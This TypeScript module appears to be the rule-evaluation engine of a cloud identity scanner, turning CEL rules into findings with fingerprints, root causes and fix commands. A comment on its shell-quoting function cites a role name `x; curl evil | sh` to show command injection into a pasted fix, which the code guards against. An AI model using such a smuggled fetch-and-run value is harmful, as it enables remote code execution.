import { hash } from 'node:crypto';
import type { Finding, Severity, TargetType } from '../model/finding.js';
import type { RuleError } from '../model/scan-result.js';
import type { Entitlement, Identity, Trust } from '../model/inventory.js';
import { computeFacts, type ScanFacts } from '../facts/stage.js';
import { CelBudgetError, CelMemo, fromCel, toCel, toCelMap, type CompiledExpression } from './cel.js';
import type { DeclarationView, ManifestFacts } from '../drift/manifest.js';
import type { SuppressionView } from '../config/suppressions.js';
import type { CompiledRule } from './load.js';
import type { RuleSpec } from './schema.js';
import { consolidateFindings } from './consolidate.js';
import { entitlementKey, grantRootKey, trustKey } from '../model/root-cause.js';
import { isProviderManaged } from '../facts/provider-managed.js';
import { grantExpired } from '../facts/grant-time.js';
import { ReachReader } from '../facts/reach/view.js';
import { suspensionOf, withSuspension } from './suspension.js';
import { Deferred } from '../util/deferred.js';
import { TextPool } from './text-pool.js';
import { boundHeapGrowth } from '../util/heap-growth.js';

export interface RuleSettings {
  severity: Severity;
  /** The team set this severity in its config: it holds for every finding, over the rule's own
   * `severityWhen` adjustments (a team that lowers a rule to high means no critical from it). */
  severityFixed?: boolean;
  parameters: RuleSpec['parameters'];
}

export interface EvaluationResult {
  findings: Finding[];
  /** Evaluation errors (a missing field, a type mismatch), first occurrence per rule. */
  errors: RuleError[];
}

interface Item {
  type: TargetType;
  key: string;
  /** What the fingerprint is made of, when steadier than `key`. */
  stableKey?: string;
  /** The root-cause key the item stands for unless the rule names others. */
  rootKey?: string;
  /** The inventory object the item's CEL value is made from alone, when many identities share
   * it (a project-wide impersonation grant is one trust on every account of the project). */
  shared?: object;
  credentialId?: string;
  vars: Record<string, unknown>;
  /** `vars` with the scan's `manifest` and the running rule's `params`, made at first use. */
  context?: Record<string, unknown>;
  /** The findings' `target`, one object for every rule that fires on the item. */
  target?: Finding['target'];
  /** How gates read a field of the item's variables, made at first use. */
  read?: (variable: string, field: string) => unknown;
}

/** Inputs beyond the inventory: declared intent and, for the suppression rules, suppressions. */
export interface EvaluationInputs {
  /** The facts stage's output; computed here only when a caller evaluates rules on their own. */
  facts?: ScanFacts;
  manifest?: ManifestFacts;
  suppressions?: SuppressionView[];
}

/** Runs every rule over every identity (and declaration or suppression, for rules that look
 * at those). `settings` carries config overrides per rule id. */
export function evaluateRules(
  identities: Identity[],
  rules: CompiledRule[],
  now: string,
  settings: Map<string, RuleSettings> = new Map(),
  inputs: EvaluationInputs = {},
): EvaluationResult {
  const facts = inputs.facts ?? computeFacts(identities, now);
  const reach = new ReachReader(facts.reach, identities, now);
  const findings: Finding[] = [];
  const errors = new Map<string, RuleError>();
  const manifest = toCel({ present: inputs.manifest !== undefined, agents: inputs.manifest?.declarations.length ?? 0 });
  const settingsOf = (rule: CompiledRule) => settings.get(rule.id) ?? { severity: rule.severity, parameters: rule.parameters };
  // Converted for CEL once per scan, not once per identity and rule.
  const memo = new CelMemo();
  const params = new Map(rules.map((r) => [r, toCel(settingsOf(r).parameters)]));
  // A rule that ran out of budget once would on every identity: it stays failed, not re-run.
  const exhausted = new Set<string>();
  // A rule that reads only its item answers once per shared item, not once per identity holding it.
  const verdicts = new Map(rules.filter((r) => r.itemOnly).map((r) => [r, new WeakMap<object, unknown>()]));
  const pool = new TextPool();
  const precedence = new Map(rules.map((r) => [r.id, r.precedence]));
  // Findings fold by root cause within one identity, so each identity's are folded as soon as its
  // rules have run: the raw findings of a whole estate (200,000 at 100,000 AWS identities) and
  // the index over all of them never exist at once. The order is the one a single fold would give.
  let raw: Finding[] = [];
  const fold = () => {
    if (raw.length > 1) findings.push(...consolidateFindings(raw, precedence, pool));
    else if (raw.length === 1) findings.push(raw[0]);
    raw = [];
  };
  const run = (rule: CompiledRule, identity: Identity, item: Item) => {
    if (exhausted.has(rule.id)) return void errors.get(rule.id)!.count++;
    const set = settingsOf(rule);
    // One context per item, its rule's parameters set for each run: nothing keeps a context.
    const context = (item.context ??= { ...item.vars, manifest, params: undefined });
    context.params = params.get(rule) ?? toCel(set.parameters);
    const known = item.shared ? verdicts.get(rule) : undefined;
    let fired = known?.get(item.shared!);
    if (fired === undefined) {
      try {
        fired = rule.test(context);
      } catch (err) {
        noteError(errors, rule, identity.id, err);
        if (err instanceof CelBudgetError) exhausted.add(rule.id);
        return;
      }
      known?.set(item.shared!, fired);
    }
    if (fired !== true) return;
    try {
      const finding = makeFinding(rule, set, identity, item, context, pool);
      const suspended = suspensionOf(identity);
      raw.push(suspended ? withSuspension(finding, suspended) : finding);
    } catch (err) {
      noteError(errors, rule, identity.id, err);
    }
  };

  let evaluated = 0;
  for (const identity of identities) {
    // The findings and their texts grow all through this loop, and the heap's peak with them.
    if ((++evaluated & 1023) === 0) {
      boundHeapGrowth();
      memo.forgetSeen();
      pool.forget();
    }
    // The provider's own identities are inventory, never findings: nobody here can own or change them.
    if (isProviderManaged(identity)) continue;
    const declared = inputs.manifest?.declared.get(identity.id);
    // Each credential in the identity's list carries its computed facts too (ages, expiry), so
    // identity rules can reason over all of them at once.
    const credFacts = facts.credentials(identity);
    const admits = facts.trusts.get(identity.id);
    const identityFacts = facts.identity(identity);
    // Built when the first rule passes its gates: most identities fail most rules' opening
    // conjuncts. Each list element is converted straight from its parts, not from a merged copy.
    let identityVar: CelIdentity | undefined;
    const celIdentity = () =>
      (identityVar ??= toCelMap(
        [
          identity,
          {
            attributes: deferObjects(identity.attributes),
            ...identityFacts,
            reach: new Deferred(() => reach.view(identity)),
            ...(declared && { declared }),
          },
        ],
        memo,
        {
          credentials: identity.credentials.map((c, i) => toCelMap([c, credFacts[i]], memo)),
          entitlements: identity.entitlements.map((e) => toCelMap([e, { rootKey: grantRootKey(identity, e) }], memo)),
          trustedBy: identity.trustedBy.map((t, i) => toCelMap([t, { rootKey: `trust:${trustKey(t)}`, ...(admits?.[i] && { admits: admits[i] }) }], memo)),
        },
      ) as unknown as CelIdentity);
    const readIdentity = (_variable: string, field: string): unknown => (field === 'isAgent' ? identityFacts.isAgent : identity[field as keyof Identity]);
    const undeclared = inputs.manifest?.undeclared.get(identity.id);
    const items: Partial<Record<IdentityTarget, Item[]>> = {};
    const itemsFor = (t: IdentityTarget): Item[] => (items[t] ??= targetItems(t, identity, celIdentity(), now, undeclared, memo));

    for (const rule of rules) {
      if (rule.target === 'declaration' || rule.target === 'suppression') continue;
      if (rule.providers && !rule.providers.includes(identity.provider)) continue;
      if (rule.gates.identity && !rule.gates.identity(readIdentity)) continue;
      const itemGate = rule.gates.item;
      for (const item of itemsFor(rule.target)) {
        if (itemGate && !itemGate((item.read ??= (variable, field) => (item.vars[variable] as Record<string, unknown> | undefined)?.[field]))) continue;
        run(rule, identity, item);
      }
    }
    fold();
  }

  for (const rule of rules) {
    if (rule.target === 'declaration') {
      for (const d of inputs.manifest?.declarations ?? []) run(rule, declarationIdentity(d), declarationItem(d));
    } else if (rule.target === 'suppression') {
      for (const s of inputs.suppressions ?? []) run(rule, suppressionIdentity(s), suppressionItem(s));
    }
  }
  // Declarations and suppressions stand for no identity of the estate: folded together.
  fold();
  return { findings, errors: [...errors.values()] };
}

type IdentityTarget = Exclude<TargetType, 'declaration' | 'suppression'>;

/** Attributes that are objects or lists (an effective-permission summary, escalation paths) are
 * converted for CEL only when a rule reads them. */
function deferObjects(attributes: Identity['attributes']): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const k in attributes) {
    const v = attributes[k];
    out[k] = v !== null && typeof v === 'object' ? new Deferred(() => v) : v;
  }
  return out;
}

/** The identity as CEL sees it: its lists already converted, element by element as the items need them. */
interface CelIdentity {
  credentials: unknown[];
  entitlements: unknown[];
  trustedBy: unknown[];
}

// Findings about a declaration or a suppression belong to no cloud identity; they name the
// manifest entry or the suppression instead, so reports and fingerprints treat them alike.
function pseudoIdentity(id: string, name: string): Identity {
  return {
    id,
    provider: 'agentscan' as Identity['provider'],
    kind: 'user',
    name,
    container: { type: 'organization', id: 'agentscan' },
    owners: [],
    tags: {},
    enabled: true,
    human: false,
    agent: { verdict: 'unknown', confidence: 0, signals: [] },
    credentials: [],
    entitlements: [],
    trustedBy: [],
    attributes: {},
  };
}

const declarationIdentity = (d: DeclarationView) => pseudoIdentity(`manifest:agents/${d.name}`, d.name);
const declarationItem = (d: DeclarationView): Item => ({ type: 'declaration', key: d.name, vars: { declaration: toCel(d) } });
const suppressionIdentity = (s: SuppressionView) => pseudoIdentity(`config:${s.source}`, `suppression of ${s.rule} for ${s.identity}`);
const suppressionItem = (s: SuppressionView): Item => ({
  type: 'suppression',
  key: `${s.rule}|${s.identity}`,
  vars: { suppression: toCel(s) },
});

// Each item's own variable is the identity's converted list element (the same value, with
// `undeclared` added for entitlements when a manifest is in play), so nothing converts twice.
function targetItems(
  type: IdentityTarget,
  identity: Identity,
  identityVar: CelIdentity,
  now: string,
  undeclared: Map<Entitlement, string[]> | undefined,
  memo: CelMemo,
): Item[] {
  const base = { identity: identityVar };
  switch (type) {
    case 'identity':
      return [{ type, key: '', vars: base }];
    case 'credential':
      return identity.credentials.map((c, i) => ({
        type,
        key: c.id,
        ...(c.stableId ? { stableKey: c.stableId } : {}),
        rootKey: `credential:${c.id}`,
        credentialId: c.id,
        vars: { ...base, credential: identityVar.credentials[i] },
      }));
    case 'entitlement':
      // A grant that can no longer take effect (its window closed) is no finding's root cause.
      return identity.entitlements.flatMap((e: Entitlement, i) => {
        if (ineffective(e, now)) return [];
        const rootKey = grantRootKey(identity, e);
        const converted = identityVar.entitlements[i] as Record<string, unknown>;
        const entitlement = undeclared ? { ...converted, undeclared: toCel(undeclared.get(e) ?? [], memo) } : converted;
        return [{ type, key: entitlementKey(e), rootKey, vars: { ...base, entitlement } }];
      });
    case 'trust':
      return identity.trustedBy.map((t: Trust, i) => ({
        type,
        key: trustKey(t),
        rootKey: `trust:${trustKey(t)}`,
        // What a trust admits is worked out per identity; without it, the value is the trust's alone.
        ...(!(identityVar.trustedBy[i] as { admits?: unknown }).admits && { shared: t }),
        vars: { ...base, trust: identityVar.trustedBy[i] },
      }));
  }
}

function ineffective(e: Entitlement, now: string): boolean {
  return e.ineffective !== undefined || grantExpired(e, now);
}

function render(parts: Array<string | CompiledExpression>, context: Record<string, unknown>): string {
  return parts.map((p) => (typeof p === 'string' ? p : display(fromCel(p(context))))).join('');
}

function display(value: unknown): string {
  if (Array.isArray(value)) return value.map(display).join(', ');
  if (value && typeof value === 'object') return JSON.stringify(value);
  return String(value);
}

export function fingerprintOf(ruleId: string, identityId: string, type: TargetType, key: string): string {
  // The first 16 bytes in hex, made as one string: slicing the 64-character digest would keep
  // the whole of it alive behind every finding's fingerprint. One-shot hash: a Hash object per
  // finding costs more than the digest.
  return hash('sha256', [ruleId, identityId, type, key].join('\u0000'), 'buffer').toString('hex', 0, 16);
}

// What findings of one rule, or about one item, have in common is one object for all of them
// (findings never change once made): the remediation without a command, the tags, the target.
const sharedRemediation = new WeakMap<CompiledRule, { text: string }>();
function remediationOf(rule: CompiledRule, command: string | undefined): Finding['remediation'] {
  let plain = sharedRemediation.get(rule);
  if (plain === undefined) sharedRemediation.set(rule, (plain = { text: rule.remediation.text.trim() }));
  return command ? { text: plain.text, command } : plain;
}

function makeFinding(
  rule: CompiledRule,
  settings: RuleSettings,
  identity: Identity,
  item: Item,
  context: Record<string, unknown>,
  pool: TextPool,
): Finding {
  const evidence: Record<string, unknown> = {};
  for (const [name, expr] of rule.evidenceExprs) evidence[name] = pool.value(fromCel(expr(context)));
  const command = renderCommand(rule.commandParts?.[identity.provider], context);
  return {
    ruleId: rule.id,
    title: rule.title,
    family: rule.family,
    severity: (!settings.severityFixed && rule.severityExprs.find((s) => s.when(context) === true)?.severity) || settings.severity,
    provider: identity.provider,
    identityId: identity.id,
    identityName: identity.name,
    // Thousands of identities hold the same managed policy: one copy of its key and root cause.
    target: (item.target ??= { type: item.type, key: pool.text(item.key) }),
    ...(item.credentialId ? { credentialId: item.credentialId } : {}),
    message: pool.text(render(rule.messageParts, context)),
    evidence,
    remediation: remediationOf(rule, command && pool.text(command)),
    owasp: rule.owasp,
    fingerprint: fingerprintOf(rule.id, identity.id, item.type, item.stableKey ?? item.key),
    rootCause: pool.value(rootCauseOf(rule, item, context)) as string[],
    ...(rule.tags.length ? { tags: rule.tags } : {}),
  };
}

/** The rule's own root-cause keys, else the item's; a rule that names none stands alone. */
function rootCauseOf(rule: CompiledRule, item: Item, context: Record<string, unknown>): string[] {
  const fallback = item.rootKey ?? `rule:${rule.id}`;
  if (!rule.rootCauseExpr) return [fallback];
  const keys = [fromCel(rule.rootCauseExpr(context))].flat(Infinity).filter((k): k is string => typeof k === 'string' && k !== '');
  return keys.length ? [...new Set(keys)].sort() : [fallback];
}

/** A fix command is a convenience: when a placeholder has no value on this identity, leave it out
 * rather than fail the finding. A placeholder that yields a list is a whole command, one word
 * per element, each quoted (`&&` alone chains two commands); an empty list means no command. */
function renderCommand(parts: Array<string | CompiledExpression> | undefined, context: Record<string, unknown>) {
  if (!parts) return undefined;
  try {
    const words = (value: unknown[]) => value.map((w) => (w === '&&' ? w : shellQuote(display(w)))).join(' ');
    const out: string[] = [];
    for (const p of parts) {
      if (typeof p === 'string') {
        out.push(p);
        continue;
      }
      const v = fromCel(p(context));
      if (Array.isArray(v) && v.length === 0) return undefined;
      out.push(Array.isArray(v) ? words(v) : shellQuote(display(v)));
    }
    return out.join('').trim() || undefined;
  } catch {
    return undefined;
  }
}

/** A value substituted into a fix command, as one shell word: names come from the estate, and a
 * role called `x; curl evil | sh` must not become a second command when the fix is pasted. */
export function shellQuote(value: string): string {
  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(value)) return value;
  return `'${value.replace(/'/g, `'\\''`)}'`;
}

function noteError(errors: Map<string, RuleError>, rule: CompiledRule, identityId: string, err: unknown): void {
  const seen = errors.get(rule.id);
  if (seen) {
    seen.count++;
    return;
  }
  errors.set(rule.id, {
    ruleId: rule.id,
    file: rule.file,
    identityId,
    message: (err as Error).message.split('\n')[0],
    count: 1,
  });
}
